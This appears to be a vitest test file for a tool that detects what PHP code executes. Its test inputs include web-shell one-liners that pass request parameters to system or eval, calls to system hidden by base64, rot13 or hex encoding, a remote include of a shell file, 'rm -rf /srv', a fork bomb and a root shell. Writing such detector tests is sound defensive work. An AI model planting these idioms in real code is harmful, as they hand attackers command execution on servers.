import { describe, expect, test } from 'vitest'
import { summary } from '../harness.ts'

/** What PHP programs run: commands, shells, code from text, functions by name. */

describe('commands', () => {
  for (const [code, expected] of [
    [`system('ls -la');`, ['$ ls -la']],
    [`exec('ls', $out, $code);`, ['$ ls']],
    ['echo shell_exec("cat $f");', ['$ cat $UNKNOWN_VALUE', 'opaque part of the command that `shell_exec` runs is not known']],
    [`passthru('id');`, ['$ id']],
    ['echo `whoami`;', ['$ whoami']],
    ['echo `ls {$d}`;', ['$ ls $UNKNOWN_VALUE', 'opaque part of the command that `backticks` runs is not known']],
    [`$h = popen('ls', 'r'); echo fgets($h);`, ['$ ls']],
    [`$h = popen('sh', 'w'); fwrite($h, 'rm -rf /srv');`, ['$ rm -rf /srv', '$ sh']],
    [`proc_open('bash -i', [['pipe', 'r']], $pipes);`, ['$ bash -i']],
    [`proc_open(['git', 'push', '--force'], [], $p);`, ['> git push --force']],
    [`pcntl_exec('/bin/sh', ['-c', 'id']);`, ['> /bin/sh -c id']],
    ['system(escapeshellcmd("rm $x"));', ['$ rm $UNKNOWN_VALUE', 'opaque part of the command that `system` runs is not known']],
    [`exec('grep ' . escapeshellarg($q) . ' f');`, ['$ grep $UNKNOWN_VALUE f', 'opaque part of the command that `exec` runs is not known']],
    [`SYSTEM('caps');`, ['$ caps']],
    [`\\system('global');`, ['$ global']],
    [`@system('quiet');`, ['$ quiet']],
    [`$f = 'system'; $f('id');`, ['$ id']],
    [`$f = 'sys' . 'tem'; $f('id');`, ['$ id']],
    [`$f = strrev('metsys'); $f('id');`, ['$ id']],
    [`$f = base64_decode('c3lzdGVt'); $f('id');`, ['$ id']],
    [`$f = str_rot13('flfgrz'); $f('id');`, ['$ id']],
    [`$f = implode('', ['s', 'y', 's', 't', 'e', 'm']); $f('id');`, ['$ id']],
    [`$f = chr(115).chr(121).chr(115).chr(116).chr(101).chr(109); $f('id');`, ['$ id']],
    [`$f = "\\x73\\x79\\x73\\x74\\x65\\x6d"; $f('id');`, ['$ id']],
    [`('sys' . 'tem')('id');`, ['$ id']],
    [`$a = ['system']; $a[0]('id');`, ['$ id']],
    [`call_user_func('system', 'id');`, ['$ id']],
    [`call_user_func_array('system', ['id']);`, ['$ id']],
    [`array_map('system', ['id', 'ls']);`, ['$ id', '$ ls']],
    [
      `array_filter(['id'], 'system'); array_walk($x, 'passthru');`,
      ['$ id', 'execute code:dynamic', 'opaque `passthru` runs a command that is not known before it runs'],
    ],
    [`usort($x, fn($a, $b) => system('s'));`, ['$ s']],
    [`register_shutdown_function('system', 'id');`, ['$ id']],
    [`ob_start('system');`, ['execute code:dynamic', 'opaque `system` runs a command that is not known before it runs']],
    [`(new ReflectionFunction('system'))->invoke('id');`, ['$ id']],
    [`set_error_handler(function () { system('handler'); });`, ['$ handler']],
    [`preg_replace_callback('/x/', function ($m) { return shell_exec('cb'); }, $s);`, ['$ cb']],
    [`if (exec('a') && !exec('b')) exec('c');`, ['$ a', '$ b', '$ c']],
    [`return system('ret');`, ['$ ret']],
    [`echo "\${x}{$y}" . system('in');`, ['$ in']],
    [`$x = fn() => system('arrow'); $x();`, ['$ arrow']],
    [`(function () { system('iife'); })();`, ['$ iife']],
    [`$o->m(function () { system('cb'); });`, ['$ cb']],
    [`class A { function __destruct() { system('late'); } }`, ['$ late']],
    [`abstract class B extends A implements I { public static function f(): void { system('static'); } }`, ['$ static']],
    [`function g() { yield system('gen'); }`, ['$ gen']],
    [`system($_GET['c']);`, ['execute code:remote']],
    [`system("ping " . $_POST['h']);`, ['execute code:remote']],
    ['exec($argv[1]);', ['execute code:dynamic', 'opaque `exec` runs a command that is not known before it runs']],
    [`passthru(file_get_contents('php://input'));`, ['execute code:remote']],
    [`shell_exec($_SERVER['HTTP_X']);`, ['execute code:remote']],
    [`echo shell_exec($_REQUEST['cmd'] . ' 2>&1');`, ['execute code:remote']],
  ] as const)
    test(code, () => expect(summary('php', code)).toEqual(expected))
})

describe('code from text', () => {
  for (const [code, expected] of [
    [`eval('system("id");');`, ['$ id', 'php:system("id");']],
    ['eval($code);', ['execute code:dynamic', 'opaque `eval` runs code that is not known before it runs']],
    ['eval("?>" . $tpl);', ['execute code:dynamic', 'opaque `eval` runs code that is not known before it runs']],
    [`@eval($_POST['x']);`, ['execute code:remote']],
    [`eval(base64_decode('c3lzdGVtKCdpZCcpOw=='));`, ['$ id', `execute code:decoded system('id');`, `php:system('id');`]],
    [
      `eval(gzinflate(base64_decode('80jNyckHAA==')));`,
      ['execute code:decoded', 'opaque `eval` runs code that is not known before it runs'],
    ],
    [`eval(str_rot13('flfgrz("vq");'));`, ['$ id', 'execute code:decoded system("id");', 'php:system("id");']],
    [`eval(hex2bin('73797374656d2822696422293b'));`, ['$ id', 'execute code:decoded system("id");', 'php:system("id");']],
    [`eval(strrev(';)"di"(metsys'));`, ['$ id', 'execute code:decoded system("id");', 'php:system("id");']],
    [`eval(file_get_contents('x.inc'));`, ['read x.inc', 'script php:x.inc']],
    [`assert('system("id")');`, ['$ id', 'php:system("id")']],
    [`assert($_GET['x']);`, ['execute code:remote']],
    [`create_function('$x', 'system("id");');`, ['$ id', 'php:system("id");']],
    [`preg_replace('/x/e', 'system("id")', 'x');`, ['$ id', 'php:system("id")']],
    [`include 'lib.php';`, ['script php:lib.php']],
    [`require_once __DIR__ . '/vendor/autoload.php';`, ['script php:./vendor/autoload.php']],
    [`include $_GET['page'];`, ['execute code:remote']],
    ['include("http://x.example/shell.txt");', ['execute code:remote http://x.example/shell.txt']],
    [`include 'data://text/plain;base64,PD9waHA=';`, ['execute code:remote data://text/plain;base64,PD9waHA=']],
    [`unserialize($_COOKIE['s']);`, ['execute code:remote']],
    [`unserialize(file_get_contents('cache'));`, ['execute code:deserialize unserialize', 'read cache']],
    [`dl('x.so');`, ['execute code:native x.so']],
    [`FFI::cdef('int system(const char *c);')->system('id');`, ['execute code:native int system(const char *c);']],
  ] as const)
    test(code, () => expect(summary('php', code)).toEqual(expected))
})

describe('processes', () => {
  for (const [code, expected] of [
    ['posix_kill(1234, 9);', ['change proc:kill 1234']],
    ['posix_kill($pid, SIGTERM);', ['change proc:kill']],
    ['posix_kill(1, SIGKILL);', ['change proc:kill 1']],
    ['while (1) pcntl_fork();', ['execute proc:fork-bomb fork']],
    [`posix_setuid(0); system('sh');`, ['$ sh', 'change privilege:switch root']],
  ] as const)
    test(code, () => expect(summary('php', code)).toEqual(expected))
})

describe('ordinary programs', () => {
  for (const code of [
    `echo "hi\\n"; print 'x'; print_r([1, 2]); var_dump($x);`,
    `<?php
declare(strict_types=1);
namespace App\\Models;
use Foo\\Bar as Baz;
final class User extends Model implements JsonSerializable {
  use HasFactory;
  private const X = 1;
  protected ?string $name = null;
  public function __construct(private readonly int $id, string ...$rest) { parent::__construct(); $this->name = $rest[0] ?? 'x'; }
  public static function make(array $a = []): static { return new static(...$a); }
  public function jsonSerialize(): mixed { return ['id' => $this->id]; }
}
echo json_encode(User::make(['id' => 1])), PHP_EOL;`,
    '<html><?php if ($x): ?><b><?= htmlspecialchars($x) ?></b><?php else: ?>no<?php endif ?></html>',
    `$a = array_map(fn($n) => $n * 2, range(1, 3)); echo array_sum($a), count($a), max($a), implode(',', $a);`,
    `foreach (['a' => 1, 'b' => 2] as $k => $v) { printf("%s=%d\\n", $k, $v); }`,
    `$s = strtoupper(trim(' x ')) . str_repeat('-', 3) . substr('abc', 1) . ucfirst('y') . number_format(1.5, 2); echo $s;`,
    'function fib(int $n): int { return $n < 2 ? $n : fib($n - 1) + fib($n - 2); } echo fib(5);',
    `$r = match (true) { $x > 1 => 'a', default => 'b' }; echo $r;`,
    `echo preg_match('/(\\d+)/', 'a1', $m), preg_replace('/a/', 'b', 'a'), preg_split('/,/', 'a,b')[0];`,
    `try { throw new InvalidArgumentException('x'); } catch (A | B $e) { error_log($e->getMessage()); }`,
    `echo date('Y-m-d'), time(), (new DateTime('now'))->format('c'), microtime(true), PHP_VERSION, phpversion();`,
    '$g = (function () { yield 1; yield from [2, 3]; })(); foreach ($g as $v) echo $v;',
    `echo <<<'X'
system('in a nowdoc')
X;`,
    `// system('comment')`,
    `/* system('comment') */ echo 1; # exec('x')`,
    `echo 'system("quoted")', "eval", 'unlink';`,
    `$q = ['eval' => 1, 'exec' => 2]; echo $q['exec'];`,
    `usort($a, fn($x, $y) => $x <=> $y); array_push($a, 1); [$p, [, $q]] = [1, [2, 3]]; echo $a[0] ?? 'none';`,
    `enum Suit: string { case A = 'a'; public function f(): string { return ucfirst($this->value); } } echo Suit::A->f();`,
    'interface I { function f(); } trait T { function f() { return static::class; } } $o = new class { use T; }; echo $o->f();',
    `$x = (int) '3' + (float) 1.5 . (string) true; $y = !$x && $z || $w; $i++; --$i; $b = $x & 1 | 2 ^ 3; echo $x, $y, $b;`,
    'static $n = 0; global $m; $n += 1; echo isset($n), empty($m), is_null($n), $n instanceof Foo;',
    'goto end; end: echo 1; if ($x) : echo 1; elseif ($y) : echo 2; else : echo 3; endif; while ($x--) : endwhile;',
    `echo json_encode(json_decode('{"a":1}')), md5('x'), sha1('x'), hash('sha256', 'x'), crc32('x'), base64_encode('x'), uniqid();`,
  ])
    test(code, () => expect(summary('php', code)).toEqual([]))
})
